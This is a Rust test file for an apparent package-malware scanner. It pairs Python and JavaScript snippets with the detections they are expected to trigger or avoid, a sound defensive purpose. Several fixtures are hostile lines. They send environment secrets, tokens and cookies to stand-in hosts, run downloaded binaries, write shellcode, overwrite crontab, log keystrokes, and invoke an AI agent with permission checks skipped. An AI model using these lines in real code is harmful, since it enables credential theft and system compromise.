//! What is claimed needs the sense, not the substring: each claim with code that bears it and code that only looks like it.

use cerebro::behavior::{Feature, Reading, Step, extract, facts};
use cerebro::package::{Package, Phase};
use rstest::rstest;

use super::{entry, npm, steps};

fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
    steps.iter().any(|step| step.feature == feature && step.detail.contains(detail))
}

#[rstest]
#[case::mirror(
    "import os, requests\nrequests.get(os.environ['NPM_MIRROR'] + '/a.tgz')",
    Feature::SendData,
    "send secret",
    false
)]
#[case::token(
    "import os, requests\nrequests.get('https://example.com/' + os.environ['NPM_TOKEN'])",
    Feature::SendData,
    "send secret",
    true
)]
#[case::own_name("import socket\nsocket.gethostbyname(socket.gethostname())", Feature::SendData, "send host", false)]
#[case::name_in_query(
    "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.example.com')",
    Feature::SendData,
    "send host",
    true
)]
#[case::bot_signs_in(
    "import os, discord\nc = discord.Client()\nc.run(os.environ['BOT_TOKEN'])",
    Feature::SendData,
    "send secret",
    false
)]
#[case::bot_talks(
    "import os, telebot\nb = telebot.TeleBot('x')\nb.send_message(1, os.environ['AWS_SECRET_ACCESS_KEY'])",
    Feature::SendData,
    "send secret",
    true
)]
#[case::key_format("from OpenSSL import crypto\ncrypto.dump_privatekey('x', k)", Feature::ReadSecret, "wallet", false)]
#[case::exports("__all__ = ['PublicKey', 'PrivateKey']", Feature::ReadSecret, "wallet", false)]
#[case::digest("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::CallEncoding, "encrypt", false)]
#[case::digest_told("from Crypto.Hash import SHA256\nSHA256.new(b'x')", Feature::CallEncoding, "hash", true)]
#[case::binding(
    "from cryptography.hazmat.bindings.openssl import binding\nbinding.lib.d2i_PrivateKey_bio(b, n)",
    Feature::CallEncoding,
    "encrypt",
    false
)]
#[case::cipher("from Crypto.Cipher import AES\nAES.new(k, 1).encrypt(b'x')", Feature::CallEncoding, "encrypt", true)]
#[case::release("open('/etc/os-release').read()", Feature::ReadSecret, "", false)]
#[case::release_told("open('/etc/os-release').read()", Feature::CallSystem, "host files", true)]
#[case::clipboard_write("import pyperclip\npyperclip.copy('x')", Feature::CaptureInput, "", false)]
#[case::clipboard_read("import pyperclip\npyperclip.paste()", Feature::CaptureInput, "clipboard", true)]
#[case::browser_flag("args = ['--no-sandbox']", Feature::CheckEnvironment, "", false)]
#[case::arrays("import numpy as np\nnp.load('a.npy')", Feature::EvaluateCode, "unmarshal", false)]
#[case::pickled_arrays(
    "import numpy as np\nnp.load('a.npy', allow_pickle=True)",
    Feature::EvaluateCode,
    "unmarshal",
    true
)]
#[case::model("from torch import load as l\nl('a.pt')", Feature::EvaluateCode, "unmarshal", true)]
#[case::inject(
    "import ctypes\nk = ctypes.windll.kernel32\nk.VirtualAlloc(0, 1, 2, 3)",
    Feature::LoadNative,
    "inject memory",
    true
)]
#[case::hook(
    "import requests\nold = requests.Session.request\ndef seen(self, *a): return old(self, *a)\nrequests.Session.request = seen",
    Feature::CaptureInput,
    "network calls",
    true
)]
#[case::dropper(
    "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('https://example.com/x').content)\nsubprocess.run(['/tmp/x'])",
    Feature::RunDownloaded,
    "downloaded program",
    true
)]
#[case::other_file(
    "import requests, subprocess\nopen('/tmp/x', 'wb').write(requests.get('https://example.com/x').content)\nsubprocess.run(['/usr/bin/id'])",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::cookies(
    "import os, requests\nrequests.Session().cookies.set_cookie(os.environ['NPM_TOKEN'])",
    Feature::SendData,
    "send secret",
    false
)]
#[case::answer(
    "import os, requests\nr = requests.get('https://example.com', headers={'a': os.environ['NPM_TOKEN']}).json()\nr.get(os.environ['NPM_TOKEN'])",
    Feature::CallNetwork,
    "http client",
    false
)]
#[case::wait("import time\ntime.sleep(1)", Feature::CheckEnvironment, "", false)]
#[case::outlast("import time\ntime.sleep(600)", Feature::CheckEnvironment, "sleep", true)]
#[case::help("print('hf jobs ssh <id> -i ~/.ssh/id_ed25519')", Feature::ReadSecret, "", false)]
#[case::child("import os\nenv = os.environ.copy()", Feature::ReadSecret, "", false)]
#[case::new_session(
    "import subprocess\nsubprocess.Popen(c, start_new_session=False)",
    Feature::SilentProcess,
    "",
    false
)]
#[case::kind_of_machine(
    "import platform, urllib.request\nurllib.request.urlretrieve('https://example.com/%s.zip' % platform.machine(), 'a')",
    Feature::SendData,
    "send host",
    false
)]
#[case::whose_machine(
    "import platform, requests\nrequests.get('https://example.com/?n=' + platform.node())",
    Feature::SendData,
    "send host",
    true
)]
#[case::capital_sentence("x = 'Set AWS_KEY in ~/.aws/credentials'", Feature::ReadSecret, "", false)]
#[case::dotted_name("c = '{0}.{1}'.format('ansible', 'ssh')", Feature::ReadSecret, "", false)]
#[case::option_name("o = get_option('use_netrc')", Feature::ReadSecret, "", false)]
#[case::looked_for("import os\nos.path.exists('/etc/init.d/x')", Feature::Persist, "", false)]
#[case::written_there("open('/etc/init.d/x', 'w')", Feature::Persist, "service", true)]
#[case::errors_dropped(
    "import subprocess\nsubprocess.run(['git'], stderr=subprocess.DEVNULL)",
    Feature::SilentProcess,
    "",
    false
)]
#[case::all_dropped(
    "import subprocess\nsubprocess.run(['git'], stdout=subprocess.DEVNULL)",
    Feature::SilentProcess,
    "",
    true
)]
#[case::decoded_argument(
    "import subprocess, base64\nsubprocess.run(['convert', base64.b64decode(x).decode()])",
    Feature::RunDecoded,
    "",
    false
)]
#[case::decoded_command(
    "import subprocess, base64\nsubprocess.run(base64.b64decode(x), shell=True)",
    Feature::RunDecoded,
    "",
    true
)]
#[case::own_variables(
    "import os\ndef one(env): return env['HOME']\none(os.environ)",
    Feature::ReadSecret,
    "environment whole",
    false
)]
#[case::changed_for_a_child(
    "import os, subprocess\nsubprocess.run(c, env=dict(os.environ, A='1'))",
    Feature::ReadSecret,
    "environment whole",
    false
)]
#[case::kept_for_a_child(
    "import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)",
    Feature::ReadSecret,
    "environment whole",
    false
)]
#[case::copy_sent(
    "import os, requests\nenv = dict(os.environ)\nrequests.post('https://example.com', json=env)",
    Feature::ReadSecret,
    "environment whole",
    true
)]
#[case::copy_method_sent(
    "import os, requests\nrequests.post('https://example.com', json=os.environ.copy())",
    Feature::ReadSecret,
    "environment whole",
    true
)]
#[case::buffer("import ctypes\nctypes.memmove(a, b, 1)\nctypes.string_at(a)", Feature::LoadNative, "", false)]
#[case::shellcode("import ctypes\nctypes.memmove(a, b'\\xfc\\x48', 2)", Feature::LoadNative, "native", true)]
#[case::prototype("from ctypes import CFUNCTYPE, c_int\nt = CFUNCTYPE(c_int)", Feature::LoadNative, "", false)]
#[case::native_callback(
    "from ctypes import CFUNCTYPE, c_int\n@CFUNCTYPE(c_int)\ndef seen(): pass",
    Feature::LoadNative,
    "",
    false
)]
#[case::at_address(
    "from ctypes import CFUNCTYPE, c_int\nCFUNCTYPE(c_int)(address)()",
    Feature::LoadNative,
    "native",
    true
)]
#[case::moved(
    "import ctypes\nctypes.windll.kernel32.RtlMoveMemory(a, b, 1)",
    Feature::LoadNative,
    "inject memory",
    false
)]
#[case::tracer("import sys\nsys.settrace(f)", Feature::CheckEnvironment, "", false)]
#[case::zones("z = {'Europe/Moscow': 1, 'Europe/London': 2}", Feature::CheckEnvironment, "", false)]
#[case::weights("import torch\ntorch.save(a, 'model.pth')", Feature::Persist, "", false)]
#[case::start_file("open('/usr/lib/python3/site-packages/a.pth', 'w')", Feature::Persist, "interpreter start", true)]
#[case::set_for_a_test(
    "import os\nfrom unittest import mock\nmock.patch.dict(os.environ, {'A': '1'})",
    Feature::ReadSecret,
    "environment whole",
    false
)]
#[case::schedule("kind = {'type': 'crontab'}\nk = 'db.cursor'", Feature::Persist, "", false)]
#[case::table_set("import os\nos.system('crontab -r; crontab /tmp/x')", Feature::Persist, "cron", true)]
#[case::machine_asked(
    "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')",
    Feature::SendData,
    "send secret",
    false
)]
#[case::machine_told(
    "import requests\na = requests.get('http://169.254.169.254/latest/meta-data/').text\nrequests.post('https://example.com', data=a)",
    Feature::SendData,
    "send secret",
    true
)]
#[case::opened_to_be_written(
    "import requests\nf = open('a.txt', 'w')\nrequests.post('https://example.com', data=f)",
    Feature::SendData,
    "send file",
    false
)]
#[case::keys_pressed(
    "from pynput.keyboard import Controller\nController().press('a')",
    Feature::CaptureInput,
    "",
    false
)]
#[case::keys_heard(
    "from pynput.keyboard import Listener\nListener(on_press=f).join()",
    Feature::CaptureInput,
    "keyboard",
    true
)]
#[case::zone("x = zone == 'Europe/Moscow'", Feature::CheckEnvironment, "locale", true)]
#[case::place_of_a_file(
    "import os, requests\nh = os.path.expanduser('~') + os.getlogin()\nrequests.post('https://example.com', data=open(h + '/a.txt').read())",
    Feature::SendData,
    "send host",
    false
)]
#[case::chat_page("a = 'https://t.me/somebody'", Feature::UseCollector, "", false)]
#[case::bot("a = 'https://api.telegram.org/bot'", Feature::UseCollector, "bot telegram", true)]
#[case::limit(
    "import os\nos.getenv('MAX_TOKENS')\nos.getenv('TOKENIZERS_PARALLELISM')",
    Feature::ReadSecret,
    "",
    false
)]
#[case::way_in("import os\nos.getenv('AUTH_STRATEGY')\nos.getenv('TOKEN_PROXY')", Feature::ReadSecret, "", false)]
#[case::errors_away("import os\nos.system('hostname -f 2>/dev/null')", Feature::SilentProcess, "", false)]
#[case::output_away("import os\nos.system('x >/dev/null 2>&1')", Feature::SilentProcess, "", true)]
#[case::all_variables("import os, json\njson.dumps(dict(os.environ))", Feature::ReadSecret, "environment whole", true)]
fn in_python(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
    let steps = steps("a.py", source);
    assert_eq!(told(&steps, feature, detail), expected, "{steps:#?}");
}

#[rstest]
#[case::clipboard_write("navigator.clipboard.writeText('x')", Feature::CaptureInput, "", false)]
#[case::clipboard_read(
    "navigator.clipboard.readText().then(t => fetch('https://example.com/' + t))",
    Feature::CaptureInput,
    "clipboard",
    true
)]
#[case::stand_in(
    "if (!globalThis.fetch) globalThis.fetch = function (u) { return 1 }",
    Feature::CaptureInput,
    "",
    false
)]
#[case::hook(
    "const old = globalThis.fetch; globalThis.fetch = (...a) => { seen(a); return old(...a) }",
    Feature::CaptureInput,
    "network calls",
    true
)]
#[case::hook_prototype(
    "const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { seen(b); return s.apply(this, arguments) }",
    Feature::CaptureInput,
    "network calls",
    true
)]
#[case::hook_aliased(
    "const h = require('https'); const old = h.request; h.request = function () { return old.apply(this, arguments) }",
    Feature::CaptureInput,
    "network calls",
    true
)]
#[case::hook_wallet(
    "const r = window.ethereum.request; window.ethereum.request = async a => r(a)",
    Feature::CaptureInput,
    "wallet calls",
    true
)]
#[case::hook_modules(
    "const M = require('module'); const l = M._load; M._load = function () { return l.apply(this, arguments) }",
    Feature::CaptureInput,
    "module loads",
    true
)]
#[case::own_object("const o = {}; const old = o.fetch; o.fetch = () => old()", Feature::CaptureInput, "", false)]
#[case::picture(
    "new Image().src = 'https://a.oastify.com/x?' + document.cookie",
    Feature::UseCollector,
    "out of band",
    true
)]
#[case::picture_asks(
    "const i = document.createElement('img'); i.src = '//example.com/x?' + document.cookie",
    Feature::CallNetwork,
    "http get",
    true
)]
#[case::picture_sends(
    "const i = document.createElement('img'); i.src = '//example.com/x?' + document.cookie",
    Feature::SendData,
    "send input",
    true
)]
#[case::stored(
    "navigator.sendBeacon('https://example.com/z', localStorage.getItem('token'))",
    Feature::SendData,
    "send input",
    true
)]
#[case::dropper(
    "const fs = require('fs'); fetch('https://example.com/a').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync('/tmp/x', Buffer.from(b)); require('child_process').spawn('/tmp/x') })",
    Feature::RunDownloaded,
    "downloaded program",
    true
)]
#[case::chain(
    "const { Connection: C } = require('@solana/web3.js'); new C('https://example.com').getSignaturesForAddress(a)",
    Feature::CallNetwork,
    "chain call",
    true
)]
#[case::collector(
    "const c = ['oapi', 'dingtalk', 'com']; require('https').request({ hostname: c.join('.'), path: '/robot/send?access_token=1' })",
    Feature::UseCollector,
    "webhook dingtalk",
    true
)]
#[case::agent(
    "require('child_process').execSync('claude -p x --dangerously-skip-permissions')",
    Feature::CallProcess,
    "agent unattended",
    true
)]
#[case::agent_folded(
    "require('child_process').spawn('claude', ['-p', 'x', '--dangerously' + '-skip-permissions'])",
    Feature::CallProcess,
    "agent unattended",
    true
)]
#[case::agent_asked(
    "require('child_process').execSync('claude -p x')",
    Feature::CallProcess,
    "agent unattended",
    false
)]
#[case::answer("require('child_process').execSync('id').toString().trim()", Feature::CallProcess, "computed", false)]
#[case::unwaited("require('child_process').spawn('id').unref()", Feature::CallProcess, "computed", false)]
#[case::content("require('fs').readFileSync('a').toString()", Feature::CallFiles, "open", false)]
#[case::asked("Object.prototype.hasOwnProperty.call(process.env, k)", Feature::ReadSecret, "environment whole", false)]
#[case::setting("localStorage.getItem('theme')", Feature::ReadSecret, "", false)]
#[case::session("localStorage.getItem('auth_token')", Feature::ReadSecret, "browser data", true)]
#[case::whole_store(
    "fetch('https://example.com', { method: 'POST', body: JSON.stringify(localStorage) })",
    Feature::ReadSecret,
    "browser data",
    true
)]
#[case::kept("localStorage.setItem('theme', 'dark')", Feature::ReadSecret, "", false)]
#[case::variables_set("Object.assign(process.env, { A: '1' })", Feature::ReadSecret, "environment whole", false)]
#[case::variables_in_object(
    "fetch('https://example.com', { method: 'POST', body: JSON.stringify({ e: process.env }) })",
    Feature::ReadSecret,
    "environment whole",
    true
)]
#[case::options_of_a_worker(
    "const s = require('net').createServer(); const { Worker } = require('worker_threads'); new Worker(file, { execArgv: [s.address().port] })",
    Feature::RunDownloaded,
    "",
    false
)]
#[case::child_environment(
    "require('child_process').spawn('a', [], { env: Object.assign({}, process.env, { A: '1' }) })",
    Feature::ReadSecret,
    "environment whole",
    false
)]
#[case::copied_environment_sent(
    "const env = Object.assign({}, process.env); fetch('https://example.com', { method: 'POST', body: JSON.stringify(env) })",
    Feature::ReadSecret,
    "environment whole",
    true
)]
#[case::spread_environment_sent(
    "fetch('https://example.com', { method: 'POST', body: JSON.stringify({ ...process.env }) })",
    Feature::ReadSecret,
    "environment whole",
    true
)]
#[case::resolved_against_the_page("fetch(new URL('/a', window.location.href))", Feature::SendData, "send host", false)]
#[case::page_told("fetch('https://example.com/?u=' + window.location.hostname)", Feature::SendData, "send host", true)]
#[case::browser_by_name("const names = ['vivaldi', 'brave-browser']", Feature::ReadSecret, "", false)]
#[case::own_module("require('./lib/cookies')", Feature::ReadSecret, "", false)]
#[case::mail_address("fetch('https://example.com/outlook/a')", Feature::ReadSecret, "", false)]
#[case::picture_of_a_box("const a = ['thinbox', 'vbox']", Feature::CheckEnvironment, "", false)]
#[case::disk_of_a_machine("const a = d.includes('VBOX HARDDISK')", Feature::CheckEnvironment, "virtual machine", true)]
fn in_javascript(#[case] source: &str, #[case] feature: Feature, #[case] detail: &str, #[case] expected: bool) {
    let steps = steps("index.js", source);
    assert_eq!(told(&steps, feature, detail), expected, "{steps:#?}");
}

#[rstest]
#[case(&[], true, true)]
#[case(&[("LICENSE", "Permission is hereby granted to everybody.")], false, true)]
#[case(&[("README.md", "# A\nThis is a small library for people.")], true, false)]
#[case(&[("README.md", ""), ("LICENSE.txt", "")], true, true)]
#[case(&[("node_modules/b/LICENSE", "Permission is hereby granted to everybody.")], true, true)]
#[case(&[("licenses.js", "module.exports = ['Permission is hereby granted']")], true, true)]
fn what_is_shipped_is_not_missing(#[case] files: &[(&str, &str)], #[case] license: bool, #[case] description: bool) {
    let mut all = vec![("index.js", "")];
    all.extend(files);
    let found = facts(&npm(&all));
    assert_eq!(found.iter().any(|fact| fact == "no license"), license, "{found:?}");
    assert_eq!(found.iter().any(|fact| fact == "no description"), description, "{found:?}");
}

#[rstest]
#[case::own("./a.json", false)]
#[case::of_the_user("/home/somebody/a.json", true)]
fn what_the_package_ships_is_no_file_that_is_sent(#[case] path: &str, #[case] expected: bool) {
    let source = format!(
        "const p = JSON.parse(require('fs').readFileSync('{path}')); fetch('https://example.com/?v=' + p.version)"
    );
    let package = npm(&[("index.js", &source), ("z/a.json", "{}"), ("a.json", "{\"version\": \"1.2\"}")]);
    let main = package.files.iter().position(|file| file.path.ends_with("index.js")).unwrap();
    let package = Package { entries: vec![entry(Phase::Import, "main", main)], ..package };
    let steps = extract(&package, &Reading::default()).sequence.steps;
    assert_eq!(told(&steps, Feature::SendData, "send file"), expected, "{steps:#?}");
}
